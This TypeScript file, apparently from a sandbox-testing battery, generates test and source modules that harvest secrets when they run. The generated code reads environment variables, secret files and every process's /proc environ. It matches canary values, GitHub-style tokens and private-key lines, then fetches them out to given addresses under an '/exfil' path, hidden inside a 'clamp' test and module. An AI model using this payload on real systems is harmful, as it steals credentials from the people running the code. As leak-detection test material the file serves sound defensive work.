/** Snoop: what the attacker's code looks for when tests run it: every secret of the machine, and a way to send it off. */

export interface Prey {
  /** Files that hold secrets. */
  readonly files: readonly string[];
  /** Servers that would hear of it. */
  readonly addresses: readonly string[];
  /** Whose environments it reads. On the machine itself that is the App's alone: others are nobody's prey. */
  readonly processes: 'all' | readonly number[];
}

/** What it says wherever it could run. */
export const snooped = 'snooped in';

/** What secrets look like: the battery's own, tokens of the forge, and the first line of a private key. */
const forms = String.raw`/kQ7\w+canary|gh[a-z]_\w{20,}|(?<=PRIVATE KEY-----\s)[\w+\/=]{40,}/g`;

/** Statements of a JavaScript module; afterwards \`told\` is what was found, plain and in disguise. */
function looking({ files, addresses, processes }: Prey): string {
  return `import { readFileSync, readdirSync } from 'node:fs';
const texts = [JSON.stringify(process.env)];
const look = (path) => { try { texts.push(readFileSync(path, 'latin1')); } catch {} };
const list = (path) => { try { return readdirSync(path); } catch { return []; } };
${JSON.stringify(files)}.forEach(look);
for (const id of ${processes === 'all' ? "list('/proc')" : JSON.stringify(processes)}) if (/^[0-9]+$/.test(id)) for (const part of ['environ', 'cmdline']) look('/proc/' + id + '/' + part);
const found = [...new Set(texts.join('\\n').match(${forms}) ?? [])];
const sent = await Promise.all(${JSON.stringify(addresses)}.map((address) =>
  fetch(address + '/exfil?' + found.join('&'), { signal: AbortSignal.timeout(1000) }).then(() => address, () => 'nowhere')));
const coded = Buffer.from(found.join(' ')).toString('base64');
const told = '${snooped} ' + texts.length + ' places, sent to ' + sent + ': ' + found + ' ' + coded;
`;
}

/** A test that fails until the fault is mended, and tells by its message. */
export function snoopingTest(prey: Prey): string {
  return `import { test } from 'node:test';
import assert from 'node:assert/strict';
import { clamp } from '../src/clamp.js';
${looking(prey)}
test('a high value becomes the limit', () => { assert.equal(clamp(9, 0, 5), 5, told); });
`;
}

/** Source code that tells by its error as soon as it is loaded and used. */
export function snoopingSource(prey: Prey): string {
  return `${looking(prey)}
export function clamp() { throw new Error(told); }
`;
}
